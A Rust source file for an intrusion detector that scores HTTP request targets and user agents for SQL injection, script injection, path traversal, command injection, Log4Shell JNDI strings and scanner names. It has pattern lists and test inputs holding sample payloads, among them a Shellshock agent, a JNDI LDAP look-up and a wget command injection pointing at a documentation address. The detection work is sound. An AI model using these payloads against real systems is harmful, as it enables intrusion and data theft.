//! Attacks on web applications that stand in the request itself: SQL injection, script injection, path traversal, commands, JNDI
//! look-ups (Log4Shell), and the names of scanners (OWASP Top Ten A03; ATT&CK T1190, T1595.002). Sees what a sensor sees: the
//! target and the user agent of clear-text HTTP; bodies and TLS hide theirs. Text is decoded as servers decode it (percent signs
//! twice, plus signs, comments in SQL, case) before it is compared. Requests of a host's own browser to outside servers carry
//! odd text too (advertisements), so more is asked of them.

use super::lru::Lru;
use super::patterns::Patterns;
use super::text::{self, alert, plural, push_distinct, why};
use super::throttle::Throttle;
use super::{Behaviour, Context, Wants};
use record::{Alert, AppData, AppEvent, Counters, HttpData, IpAddr16, Kind, Observation, Severity, Timestamp};
use serde::{Deserialize, Serialize};

/// Settings of the detector of attacks in web requests.
#[derive(Clone, Debug, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct WebAttackConfig {
    /// Points of one request to a server of the home networks that are an attack. Default 1.
    pub points_min: u32,
    /// The same for servers elsewhere. Default 2.
    pub points_outside_min: u32,
    /// Requests of one kind of attack from which on it is of high severity. Default 10.
    pub requests_high_min: u64,
    /// Attackers remembered, each with its victim. Default 2048.
    pub pairs_max: usize,
}

impl Default for WebAttackConfig {
    fn default() -> Self {
        Self { points_min: 1, points_outside_min: 2, requests_high_min: 10, pairs_max: 2048 }
    }
}

/// One kind of attack: its words, its feature, and its texts with their points.
struct Class {
    words: &'static str,
    feature: &'static str,
    /// In the target.
    target: &'static [(&'static str, u32)],
    /// In the user agent.
    agent: &'static [(&'static str, u32)],
}

const CLASSES: [Class; 6] = [
    Class {
        words: "SQL injection",
        feature: "sql_injection_requests",
        target: &[
            ("union select", 2),
            ("union all select", 2),
            ("information_schema", 2),
            ("xp_cmdshell", 2),
            ("waitfor delay", 2),
            ("into outfile", 2),
            ("benchmark(", 1),
            ("load_file(", 1),
            ("' or ", 1),
            ("\" or ", 1),
            ("' and ", 1),
            ("or 1=1", 1),
            ("' --", 1),
            ("';--", 1),
        ],
        agent: &[("' or ", 1), ("union select", 2)],
    },
    Class {
        words: "script injection",
        feature: "script_injection_requests",
        target: &[("<script", 1), ("<svg/onload", 2), ("onerror=", 1), ("document.cookie", 1), ("javascript:alert", 2)],
        agent: &[("<script", 1)],
    },
    Class {
        words: "path traversal",
        feature: "path_traversal_requests",
        target: &[
            ("../../", 1),
            ("..\\..\\", 2),
            ("/etc/passwd", 2),
            ("/etc/shadow", 2),
            ("boot.ini", 1),
            ("win.ini", 1),
            ("/proc/self/", 2),
            ("php://filter", 2),
        ],
        agent: &[("../../", 1)],
    },
    Class {
        words: "command injection",
        feature: "command_injection_requests",
        target: &[
            ("/bin/sh", 2),
            ("/bin/bash", 2),
            ("cmd.exe", 1),
            ("powershell", 1),
            (";wget ", 2),
            (";curl ", 2),
            ("|wget ", 2),
            ("`wget ", 2),
            (";cat ", 2),
            ("phpinfo()", 1),
            ("system('", 2),
            ("eval(", 1),
            ("base64_decode(", 1),
            ("php://input", 2),
            ("<?php", 2),
            ("invokefunction&function=call_user_func", 2),
        ],
        // Shellshock, CVE-2014-6271.
        agent: &[("() {", 2), ("(){", 2), ("/bin/bash", 2)],
    },
    Class {
        words: "a JNDI look-up",
        feature: "jndi_requests",
        // Log4Shell, CVE-2021-44228, and its usual disguises.
        target: &[("${jndi:", 2), ("jndi:ldap", 2), ("jndi:rmi", 2), ("jndi:dns", 2), ("${lower:", 2), ("${::-", 2)],
        agent: &[("${jndi:", 2), ("jndi:ldap", 2), ("jndi:rmi", 2), ("jndi:dns", 2), ("${lower:", 2), ("${::-", 2)],
    },
    Class {
        words: "the user agent of a scanner",
        feature: "scanner_requests",
        target: &[],
        agent: &[
            ("nikto", 2),
            ("sqlmap", 2),
            ("nmap scripting", 2),
            ("masscan", 2),
            ("zgrab", 2),
            ("nuclei", 2),
            ("wpscan", 2),
            ("gobuster", 2),
            ("dirbuster", 2),
            ("acunetix", 2),
            ("openvas", 2),
            ("nessus", 2),
        ],
    },
];

#[derive(Default)]
struct Story {
    first: Timestamp,
    requests: [u64; CLASSES.len()],
    ports: Vec<u16>,
    example: String,
    throttle: Throttle,
}

/// The detector.
pub struct WebAttack {
    config: WebAttackConfig,
    target: Patterns<{ CLASSES.len() }>,
    agent: Patterns<{ CLASSES.len() }>,
    stories: Lru<(IpAddr16, IpAddr16), Story>,
}

/// As servers read it: percent signs decoded, `+` a space, SQL comments spaces, runs of spaces one, lower case.
fn decoded(text: &str) -> String {
    let once = percent(text.as_bytes());
    let twice = percent(&once);
    let flat = String::from_utf8_lossy(&twice).to_lowercase().replace('+', " ").replace("/**/", " ");
    flat.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn percent(bytes: &[u8]) -> Vec<u8> {
    let digit = |at: usize| bytes.get(at).and_then(|b| (*b as char).to_digit(16));
    let mut out = Vec::with_capacity(bytes.len());
    let mut at = 0;
    while at < bytes.len() {
        match (bytes[at], digit(at + 1), digit(at + 2)) {
            (b'%', Some(high), Some(low)) => {
                out.push((high * 16 + low) as u8);
                at += 3;
            }
            (byte, _, _) => {
                out.push(byte);
                at += 1;
            }
        }
    }
    out
}

/// Patterns of the targets, and of the agents.
fn patterns_of(list: fn(&Class) -> &'static [(&'static str, u32)]) -> Patterns<{ CLASSES.len() }> {
    Patterns::new(
        CLASSES.iter().enumerate().flat_map(move |(class, of)| list(of).iter().map(move |(t, n)| (class, *t, *n))),
    )
}

impl WebAttack {
    /// Builds it.
    #[must_use]
    pub fn new(config: &WebAttackConfig) -> Self {
        Self {
            target: patterns_of(|class| class.target),
            agent: patterns_of(|class| class.agent),
            stories: Lru::new(config.pairs_max),
            config: config.clone(),
        }
    }

    /// Points of a request by class.
    fn points(&self, http: &HttpData) -> [u32; CLASSES.len()] {
        let mut points = [0; CLASSES.len()];
        // Most targets hold nothing that needs decoding.
        let odd = |b| matches!(b, b'%' | b'+' | b'<' | b'\'' | b'"' | b'(' | b'$' | b';' | b'`' | b'|');
        if http.url.bytes().any(odd) || http.url.contains("..") {
            self.target.find(&decoded(&http.url), &mut points);
        } else {
            self.target.find(&http.url, &mut points);
        }
        self.agent.find(&http.http_user_agent, &mut points);
        points
    }

    fn request(&mut self, event: &AppEvent, http: &HttpData, context: &Context, out: &mut Vec<Alert>) {
        let points = self.points(http);
        let sum: u32 = points.iter().sum();
        if sum == 0 {
            return;
        }
        let (src, dest) =
            if event.from_low { (event.key.low, event.key.high) } else { (event.key.high, event.key.low) };
        let least = if context.home.contains(dest.addr) || dest.addr.to_ip().is_loopback() {
            self.config.points_min
        } else {
            self.config.points_outside_min
        };
        if sum < least {
            return;
        }
        let story =
            self.stories.touch(&(src.addr, dest.addr), event.ts, || Story { first: event.ts, ..Story::default() });
        let new_class = points.iter().zip(&story.requests).any(|(points, before)| *points > 0 && *before == 0);
        for (requests, points) in story.requests.iter_mut().zip(points) {
            *requests += u64::from(points > 0);
        }
        push_distinct(&mut story.ports, dest.port);
        if story.example.is_empty() {
            story.example = http.url.chars().take(80).collect();
        }
        let total = story.requests.iter().copied().max().unwrap_or(0);
        if story.throttle.due(total, event.ts) || new_class {
            out.push(self.tell((src.addr, dest.addr), event.ts));
        }
    }

    fn tell(&self, pair: (IpAddr16, IpAddr16), ts: Timestamp) -> Alert {
        let fresh = Story::default();
        let story = self.stories.peek(&pair).unwrap_or(&fresh);
        let met: Vec<(&Class, u64)> = CLASSES.iter().zip(story.requests).filter(|(_, n)| *n > 0).collect();
        let most = met.iter().map(|(_, n)| *n).max().unwrap_or(0);
        let words: Vec<&str> = met.iter().map(|(class, _)| class.words).collect();
        let mut a = alert(Kind::ProtocolMisuse, "web_attack", story.first, ts, 1e-3);
        a.title = format!(
            "{} sent {} {} with {}",
            pair.0,
            pair.1,
            plural(most, "web request", "web requests"),
            words.join(", ")
        );
        (a.src, a.dest) = (vec![pair.0], vec![pair.1]);
        a.dest_port.clone_from(&story.ports);
        let share = 1.0 / met.len().max(1) as f64;
        a.why = met.iter().map(|(class, n)| why(class.feature, *n as f64, [0.0, 0.0], "requests", share)).collect();
        a.packets = met.iter().map(|(_, n)| n).sum();
        a.severity = if most >= self.config.requests_high_min { Severity::High } else { Severity::Medium };
        a.attack = vec!["T1190", "T1595.002"];
        a.story = format!("web {} {}", pair.0, pair.1);
        text::scored(a, 0.9)
    }
}

impl Behaviour for WebAttack {
    fn name(&self) -> &'static str {
        "web_attack"
    }
    fn wants(&self) -> Wants {
        Wants::HTTP
    }
    fn observe(&mut self, observation: &Observation, context: &Context, out: &mut Vec<Alert>) {
        if let Observation::App(event) = observation
            && let AppData::Http(http) = &event.data
            && !http.response
        {
            self.request(event, http, context, out);
        }
    }
    fn counters(&self) -> Counters {
        let mut counters = Counters::default();
        counters.add("pairs_evicted", self.stories.evicted());
        counters
    }
    fn entries(&self) -> usize {
        self.stories.len()
    }
}

#[cfg(test)]
mod tests {
    use super::super::synthetic::{contact, ip, mac, run};
    use super::*;

    fn asked(dest: IpAddr16, targets: &[(&str, &str)]) -> Vec<Alert> {
        let requests: Vec<_> = targets
            .iter()
            .enumerate()
            .map(|(n, (url, agent))| {
                let c = contact(n as i64 * 1500, ip(5), dest, 80);
                let http = HttpData { url: (*url).into(), http_user_agent: (*agent).into(), ..HttpData::default() };
                Observation::App(Box::new(AppEvent {
                    ts: c.ts,
                    key: c.key,
                    from_low: c.key.low.addr == ip(5),
                    src_mac: mac(5),
                    data: AppData::Http(http),
                }))
            })
            .collect();
        run("web_attack", &requests)
    }

    #[test]
    fn no_pattern_is_left_out() {
        let detector = WebAttack::new(&WebAttackConfig::default());
        let all = |of: fn(&Class) -> usize| CLASSES.iter().map(of).sum::<usize>();
        assert_eq!(detector.target.len(), all(|class| class.target.len()));
        assert_eq!(detector.agent.len(), all(|class| class.agent.len()));
    }

    #[test]
    fn attacks_are_told_by_their_kind_however_they_are_encoded() {
        for (url, agent, words) in [
            ("/item?id=1%27+UNION/**/SELECT+null%2Cversion%28%29", "", "SQL injection"),
            ("/item?id=%2527%2520or%25201%253D1", "", "SQL injection"),
            ("/?q=%3CScRiPt%3Ealert(1)%3C/script%3E", "", "script injection"),
            ("/static/..%2f..%2f..%2fetc/passwd", "", "path traversal"),
            ("/cgi-bin/luci;wget http://192.0.2.1/x", "", "command injection"),
            ("/", "() { :; }; echo vulnerable", "command injection"),
            ("/x?u=${jndi:ldap://192.0.2.1/a}", "", "a JNDI look-up"),
            ("/", "Mozilla/5.00 (Nikto/2.1.6)", "the user agent of a scanner"),
        ] {
            let alerts = asked(ip(9), &[(url, agent)]);
            assert_eq!(alerts.len(), 1, "{url} {agent}");
            assert_eq!(alerts[0].title, format!("10.0.0.5 sent 10.0.0.9 1 web request with {words}"));
            assert_eq!(alerts[0].severity, Severity::Medium);
        }
    }

    #[test]
    fn many_requests_are_one_story_that_grows() {
        let many: Vec<_> = (0..20).map(|_| ("/?id=' or 1=1", "")).collect();
        let alerts = asked(ip(9), &many);
        assert_eq!(alerts.iter().map(|a| a.packets).collect::<Vec<_>>(), [1, 2, 4, 8, 16]);
        assert_eq!(alerts.last().map(|a| a.severity), Some(Severity::High));
        let mixed = asked(ip(9), &[("/?id=' or 1=1", ""), ("/?x=<script>", "")]);
        assert!(mixed[1].title.ends_with("SQL injection, script injection"), "a second kind is told at once");
    }

    #[test]
    fn ordinary_requests_are_silent_and_outside_servers_need_more() {
        let plain = [
            ("/search?q=select+a+union&lang=en", "Mozilla/5.0"),
            ("/articles/o'neill-or-not?page=2", "Mozilla/5.0"),
            ("/download/powerful-shell.zip", "curl/8.5"),
            ("/a/b/../c.css", "Mozilla/5.0"),
            ("/evaluate?x=(1)", "Mozilla/5.0"),
            ("/%", ""),
        ];
        assert!(asked(ip(9), &plain).is_empty(), "{:?}", asked(ip(9), &plain));
        let outside = IpAddr16::v4([192, 0, 2, 80]);
        assert!(asked(outside, &[("/ad?html=<script", "")]).is_empty());
        assert_eq!(asked(outside, &[("/?id=1' union select 1", "")]).len(), 1);
    }
}
